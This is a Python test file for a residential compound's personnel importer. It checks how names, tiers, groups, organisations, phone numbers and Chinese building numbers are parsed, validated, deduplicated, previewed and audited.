    ("3栋", 3), ("12号楼", 12), ("3幢", 3), ("3座", 3), ("3号", 3), ("3楼", 3), ("3#", 3), ("3-2-502", 3), ("3单元", 3),
    ("3", 3), ("三栋", 3), ("十栋", 10), ("十四栋", 14), ("二十栋", 20), ("二十三栋", 23), ("九十九号楼", 99),
    ("十幢", 10), ("一座", 1), ("两栋", None), ("三三栋", None), ("一百栋", None), ("十十栋", None), ("二十三四栋", None),
    ("二三十栋", None), ("十二三栋", None), ("三十四五栋", None),
    ("三", None), ("栋", None), ("a3栋", None), ("3a", None), ("", None),
])
def test_building_numbers_in_figures_and_in_chinese(text, number):
    assert people.sheet._leading_number(text) == number


def test_building_ten_in_chinese_is_found_and_twenty_is_refused_as_unknown(fresh_demo, tmp_path):
    path = write(tmp_path / "b.csv", [HEAD_ZH, "赵一鸣,志愿者,门岗防控组,13712340221,是,十栋",
                                      "钱二丫,志愿者,门岗防控组,13712340222,是,二十栋", "孙三强,志愿者,,,否,十四号楼"])
    rows, errors = people.importer.plan(fresh_demo, 1, people.importer.read(path))
    assert [(r.person.name, r.person.home_building_id) for r in rows] == [("赵一鸣", 10), ("孙三强", 14)]
    assert [(e.where.row, e.keys, e.message("zh")) for e in errors] == [(3, ["people.bad_building"], "第 3 行：未知楼栋：二十栋。")]


def test_an_unknown_source_organisation_refuses_its_row_and_names_the_known_ones(fresh_demo, tmp_path):
    path = write(tmp_path / "org.csv", ["姓名,层级,分组,来源单位,手机号", "赵一鸣,下沉党员,卡口封控组,东管公司,13712340231",
                                        "钱二丫,下沉党员,卡口封控组,武汉某某公司,13712340232",
                                        "孙三强,下沉党员,卡口封控组,wuhan hi-tech group,13712340233"])
    rows, errors = people.importer.plan(fresh_demo, 1, people.importer.read(path))
    assert [(r.person.name, r.person.organisation_id) for r in rows] == [("赵一鸣", 2), ("孙三强", 1)]
    assert [(e.where.row, e.keys) for e in errors] == [(3, ["people_import.unknown_organisation"])]
    assert errors[0].message("zh") == ("第 3 行：未知单位「武汉某某公司」（可填：武汉高科集团、东管公司、左开投、湖滨公司、万科物业、"
                                       "长山社区居委会）。")
    before = dump(fresh_demo)
    with pytest.raises(ImportRefused):
        people.importer.import_people(fresh_demo, ADMIN, 1, path)
    assert dump(fresh_demo) == before


@pytest.mark.parametrize(("lines", "expected"), [
    # the same name with a phone, then without: the second may be the first again
    (["赵一鸣,志愿者,门岗防控组,13712340241,是,3栋", "赵一鸣,志愿者,门岗防控组,,是,3栋"], [(3, ["people_import.same_name"])]),
    # without, then with
    (["赵一鸣,志愿者,门岗防控组,,是,3栋", "赵一鸣,志愿者,门岗防控组,13712340241,是,3栋"], [(3, ["people_import.same_name"])]),
    # neither has a phone and the rows are the same: a repeated row
    (["赵一鸣,志愿者,门岗防控组,,是,3栋", "赵 一鸣,志愿者,门岗防控组,,是,3栋"], [(3, ["people_import.duplicate"])]),
    # two phones tell two people of one name apart
    (["赵一鸣,志愿者,门岗防控组,13712340241,是,3栋", "赵一鸣,志愿者,应急组,13712340242,否,4栋"], []),
    # one phone on two names
    (["赵一鸣,志愿者,门岗防控组,13712340241,是,3栋", "钱二丫,志愿者,应急组,13712340241,否,4栋"],
     [(3, ["people_import.phone_twice"])]),
])
def test_the_same_name_twice_in_one_file_with_and_without_a_phone(fresh_demo, tmp_path, lines, expected):
    rows, errors = people.importer.plan(fresh_demo, 1, people.importer.read(write(tmp_path / "n.csv", [HEAD_ZH, *lines])))
    assert [(e.where.row, e.keys) for e in errors] == expected
    assert len(rows) == 2 - len(expected)


@pytest.mark.parametrize(("line", "expected"), [
    ("吕涛,志愿者,门岗防控组,,是,3栋", ["people_import.exists"]),  # in the directory, no phone in the file
    ("吕涛,志愿者,门岗防控组,13712340251,是,3栋", []),  # a phone tells a namesake apart (吕涛 has one too)
])
def test_a_name_already_in_the_directory(fresh_demo, tmp_path, line, expected):
    _, errors = people.importer.plan(fresh_demo, 1, people.importer.read(write(tmp_path / "d.csv", [HEAD_ZH, line])))
    assert [k for e in errors for k in e.keys] == expected


# --- the number of queries does not grow with the file --------------------------------------------------------------


def people_lines(n: int, offset: int = 0) -> list[str]:
    return [HEAD_ZH, *(f"志愿者{offset + i:05d},志愿者,门岗防控组,1371{offset + i:07d},否,{i % 14 + 1}栋" for i in range(n))]


def test_planning_and_importing_run_the_same_number_of_queries_for_10_rows_as_for_400(fresh_demo, tmp_path, monkeypatch):
    from coordpanel.core import db as db_module

    counted: list[str] = []
    load_query, run_query = db_module.load_query, db_module.run_query
    monkeypatch.setattr(db_module, "load_query", lambda name: counted.append(name) or load_query(name))
    monkeypatch.setattr(db_module, "run_query", lambda cur, name, /, **p: counted.append(name) or run_query(cur, name, **p))
    per_size = {}
    for n, offset in ((10, 0), (400, 1000)):
        frame = people.importer.read(write(tmp_path / f"p{n}.csv", people_lines(n, offset)))
        counted.clear()
        rows, errors = people.importer.plan(fresh_demo, 1, frame)
        assert errors == [] and len(rows) == n
        planned = list(counted)
        assert people.importer.import_people(fresh_demo, ADMIN, 1, frame) == n
        per_size[n] = (len(planned), len(counted) - len(planned))
    assert per_size[10] == per_size[400], per_size
    assert per_size[10][0] <= 6, planned  # vocabulary (3), the directory, the phone owners


@pytest.mark.parametrize(("lang", "expected"), [
    ("zh", {"工作表": ["志愿者", "志愿者", "志愿者", "物业"], "行号": [3, 4, 5, 2], "姓名": ["周五福", "吴六顺", "郑七星", "王八斗"],
            "层级": ["志愿者", "志愿者", "志愿者", "物业"], "分组": ["门岗防控组", "门岗防控组", "生活物质采购组", "秩序维护（安保）"],
            "单位": [None] * 4, "电话": ["13712340011", "13712340012", "13712340013", "13712340014"],
            "党员": [True, False, False, False], "所住楼栋": ["5栋", "7栋", "10栋", None], "职务": [None] * 4,
            "备注": ["=1+1", "白班", None, None]}),
    ("en", {"Sheet": ["志愿者", "志愿者", "志愿者", "物业"], "Row": [3, 4, 5, 2], "Tier": ["Volunteers"] * 3 + ["Property company"],
            "Group": ["Gate control", "Gate control", "Daily-supplies purchasing", "Security"]}),
])
def test_the_preview_shows_the_rows_as_they_will_be_stored(demo_db, lang, expected):
    rows, _ = people.importer.plan(demo_db, 1, people.importer.read(FIXTURES / "people.xls"))
    vocabulary = people.directory.Vocabulary.load(demo_db, 1)
    table = people.importer.preview(rows, vocabulary, lang).astype(object)
    table = table.where(table.notna(), None)
    assert {k: v for k, v in table.to_dict("list").items() if k in expected} == expected
    assert len(table.columns) == 11
    one_sheet = people.importer.preview(rows[:3], vocabulary, lang)  # the sheet is named only when there are several
    assert list(one_sheet.columns) == list(table.columns)[1:]


# --- what each cell and row becomes, exactly (pinned by the mutation test, tools/mutation.py) -------------------------


def plan_cells(db: Database, *records: dict, sheet: str | None = None):
    """plan() of a frame built by hand: one row per record (no `row` column, so rows count from 2)."""
    frame = pd.DataFrame(list(records))
    if sheet is not None:
        frame.insert(0, "sheet", sheet)
    return people.importer.plan(db, 1, frame)


@pytest.mark.parametrize(("written", "stored"), [
    ("Anna  \t Lee", "Anna Lee"),  # runs of white space become one space
    ("Иван Петров", "Иван Петров"),  # a name in another script keeps its space
    ("王 Lily", "王 Lily"), ("李 MIKE", "李 MIKE"), ("陈 jun", "陈 jun"),  # Chinese with Latin letters: as written
    ("张  三", "张三"), ("张　三", "张三"),  # a two-character Chinese name padded with spaces
])
def test_names_are_stored_as_written_without_padding(demo_db, written, stored):
    rows, errors = plan_cells(demo_db, {"姓名": written, "层级": "志愿者"})
    assert errors == [] and rows[0].person.name == stored


def test_a_cell_holding_true_or_false_is_kept_as_that_word(demo_db):
    rows, errors = plan_cells(demo_db, {"姓名": "赵一鸣", "层级": "志愿者", "职务": True, "备注": False})
    assert errors == [] and (rows[0].person.title, rows[0].person.note) == ("True", "False")


def test_a_frame_without_row_numbers_counts_rows_under_one_header_row(demo_db):
    rows, errors = plan_cells(demo_db, {"姓名": "赵一鸣", "层级": "志愿者"}, {"姓名": None, "层级": None},
                              {"姓名": "钱二丫", "层级": "外星人"})
    assert [r.where.row for r in rows] == [2] and [(e.where.row, e.keys) for e in errors] == [(4, ["people.bad_tier"])]


def test_a_sheet_per_tier_with_only_a_name_column_under_a_title(fresh_demo):
    """An office's workbook: a sheet named for the tier, a title row, and a header whose only known column is 姓名."""
    book = Workbook()
    ws = book.active
    ws.title = "志愿者"
    ws.append(["长山社区志愿者名单"])
    ws.append(["姓名", "签名"])
    ws.append(["赵一鸣", "赵"])
    ws2 = book.create_sheet("物业")
    ws2.append(["物业人员"])
    ws2.append(["姓名"])
    ws2.append(["钱二丫"])
    out = io.BytesIO()
    book.save(out)
    frame = people.importer.read(out.getvalue(), "名单.xlsx")
    rows, errors = people.importer.plan(fresh_demo, 1, frame)
    assert errors == []
    assert [(r.where.sheet, r.where.row, r.person.name, r.person.tier, r.person.group_code) for r in rows] == [
        ("志愿者", 3, "赵一鸣", "volunteer", None), ("物业", 3, "钱二丫", "property", None)]
    result = people.importer.import_people(fresh_demo, ADMIN, 1, out.getvalue(), name="名单.xlsx")
    assert (int(result), result.unused_columns) == (2, ("签名",))


def test_tiers_under_their_english_names_and_groups_under_their_short_names(demo_db):
    rows, errors = plan_cells(
        demo_db, {"Name": "Anna Lee", "Tier": "Grid workers"}, {"Name": "Bo Zhang", "Tier": "Property company", "Group": "安保"},
        {"Name": "Chen Li", "Tier": "Sent-down cadres", "Group": "卡口封控"}, {"Name": "Du Fei", "Group": "秩序维护"})
    assert errors == []
    assert [(r.person.tier, r.person.group_code) for r in rows] == [
        ("grid", None), ("property", "security"), ("cadre", "checkpoint"), ("property", "security")]


def test_a_compound_s_own_words_lettered_buildings_and_short_group_names_that_two_groups_share():
    vocabulary = people.directory.Vocabulary(
        {"east": {"tier": "volunteer", "name_zh": "巡逻（东区）", "name_en": "Patrol east"},
         "west": {"tier": "volunteer", "name_zh": "巡逻（西区）", "name_en": "Patrol west"},
         "night": {"tier": "volunteer", "name_zh": "夜班组", "name_en": "Night"}},
        {}, {1: "A座", 2: "B座", 3: "东1栋"})
    words = people.sheet.Words(vocabulary)
    assert [words.building(b) for b in ("A座", "b座", "东1栋", "C座", "1")] == [1, 2, 3, None, None]
    group = lambda text: people.sheet.person_from_cells({"name": "赵一鸣", "group": text}, words, None)[0].group_code  # noqa: E731
    # "巡逻" could be either patrol: it stays as written (and is refused as an unknown group); the rest resolve
    assert [group(g) for g in ("巡逻", "东区", "西区", "巡逻(东区)", "夜班", "Night")] == ["巡逻", "east", "west", "east", "night", "night"]


def test_a_row_without_a_tier_keeps_its_other_reasons(fresh_demo, tmp_path):
    path = write(tmp_path / "t.csv", [HEAD_ZH, "赵一鸣,,,12345,是,3栋"])
    _, errors = people.importer.plan(fresh_demo, 1, people.importer.read(path))
    assert [e.keys for e in errors] == [["people_import.no_tier", "people.bad_phone"]]


def test_rows_without_a_name_are_not_taken_for_repeats_of_each_other(fresh_demo, tmp_path):
    path = write(tmp_path / "n.csv", [HEAD_ZH, ",志愿者,门岗防控组,,是,3栋", ",志愿者,门岗防控组,,是,3栋"])
    _, errors = people.importer.plan(fresh_demo, 1, people.importer.read(path))
    assert [(e.where.row, e.keys) for e in errors] == [(2, ["people.no_name"]), (3, ["people.no_name"])]


def test_a_bad_row_is_a_refusal_of_its_first_reason_and_quotes_values_as_written(fresh_demo, tmp_path):
    path = write(tmp_path / "b.csv", [HEAD_ZH, "赵一鸣,志愿者,巡逻X,13712340041,是,99栋"])
    _, errors = people.importer.plan(fresh_demo, 1, people.importer.read(path))
    (bad,) = errors
    assert (bad.key, bad.params, bad.keys) == ("people.bad_group", {"group": "巡逻X"},
                                               ["people.bad_group", "people.bad_building"])
    assert bad.message("zh") == "第 2 行：未知分组：巡逻X；未知楼栋：99栋。"
    assert bad.message("en") == "row 2: unknown group: 巡逻X; unknown building: 99栋."


def test_a_mapping_to_a_header_the_file_lacks_names_that_header(fresh_demo, tmp_path):
    frame = people.importer.read(write(tmp_path / "m.csv", ["联系人,号码", "赵一鸣,13712340031"]))
    _, errors = people.importer.plan(fresh_demo, 1, frame, {"name": "联系人", "phone": "手机号"})
    assert [(e.key, e.params) for e in errors] == [("people_import.unknown_header", {"header": "手机号", "found": "联系人, 号码"})]


def test_the_columns_found_are_named_as_the_file_writes_them(fresh_demo, tmp_path):
    path = write(tmp_path / "c.csv", ["电话,电话,,楼栋", "13712340081,13712340082,x,3栋"])
    _, errors = people.importer.plan(fresh_demo, 1, people.importer.read(path))
    assert [(e.key, e.params) for e in errors] == [("people_import.no_name_column", {"found": "电话, 电话, 楼栋"})]


def test_the_columns_not_imported_follow_the_coordinator_s_mapping(fresh_demo, tmp_path):
    path = write(tmp_path / "cols.csv", ["序号,姓名,层级,电话,手机,备注", "1,赵一鸣,志愿者,13712340261,13712340262,夜班"])
    mapping = {**people.importer.detect_mapping(people.importer.headers(people.importer.read(path))), "phone": "手机",
               "note": None}
    result = people.importer.import_people(fresh_demo, ADMIN, 1, path, mapping)
    assert (int(result), result.unused_columns) == (1, ("序号", "电话", "备注"))
    stored = person(fresh_demo, "赵一鸣")
    assert (stored["phone"], stored["note"]) == ("13712340262", None)


def test_each_person_added_is_audited_under_their_id_and_the_compound(fresh_demo, tmp_path):
    path = write(tmp_path / "a.csv", [HEAD_ZH, "赵一鸣,志愿者,门岗防控组,13712340271,是,3栋", "钱二丫,志愿者,应急组,,否,4栋"])
    people.importer.import_people(fresh_demo, ADMIN, 1, path)
    ids = {person(fresh_demo, n)["id"] for n in ("赵一鸣", "钱二丫")}
    log = fresh_demo.cursor().execute("SELECT table_name, row_key, compound_id FROM audit_log WHERE action = 'import people'"
                                      ).fetchall()
    assert sorted(log) == sorted(("person", str(i), 1) for i in ids)


def test_a_stopped_admin_s_old_session_cannot_import(fresh_demo, tmp_path, cheap_hashes):
    from coordpanel.core import auth

    auth.create_user(fresh_demo, auth.CLI_USER, "admin2", "admin", "S3cret-Passw0rd!")
    admin2 = auth.authenticate(fresh_demo, "admin2", "S3cret-Passw0rd!", sleep=lambda s: None)
    auth.update_user(fresh_demo, auth.CLI_USER, "admin2", "admin", False)
    path = write(tmp_path / "ok.csv", [HEAD_ZH, "赵一鸣,志愿者,门岗防控组,13712340281,是,3栋"])
    before = dump(fresh_demo)
    with pytest.raises(PermissionDenied) as denied:
        people.importer.import_people(fresh_demo, admin2, 1, path)
    assert denied.value.key == "auth.session_ended"
    assert dump(fresh_demo) == before


@pytest.mark.parametrize(("lang", "expected"), [
    ("zh", {"行号": [2, 3], "姓名": ["孙三强", "李四海"], "层级": ["下沉党员", "社区网格员"], "分组": ["卡口封控组", None],
            "单位": ["东管公司", "长山社区居委会"], "电话": ["13712340291", None], "党员": [True, False],
            "所住楼栋": [None, "3栋"], "职务": ["组长", "网格员"], "备注": [None, "白班"]}),
    ("en", {"Row": [2, 3], "Name": ["孙三强", "李四海"], "Tier": ["Sent-down cadres", "Grid workers"],
            "Group": ["Checkpoint control", None], "Organisation": ["Dongguan Co.", "Changshan Community Office"],
            "Phone": ["13712340291", None], "Party member": [True, False], "Home building": [None, "3栋"],
            "Title": ["组长", "网格员"], "Note": [None, "白班"]}),
])
def test_the_preview_names_organisations_and_every_column_in_the_user_s_language(demo_db, tmp_path, lang, expected):
    path = write(tmp_path / "p.csv", ["姓名,层级,分组,单位,手机号,是否党员,所住楼栋,职务,备注",
                                      "孙三强,下沉党员,卡口封控组,东管公司,13712340291,是,,组长,",
                                      "李四海,社区网格员,,长山社区居委会,,否,3栋,网格员,白班"])
    rows, errors = people.importer.plan(demo_db, 1, people.importer.read(path))
    assert errors == []
    table = people.importer.preview(rows, people.directory.Vocabulary.load(demo_db, 1), lang).astype(object)
    assert table.where(table.notna(), None).to_dict("list") == expected
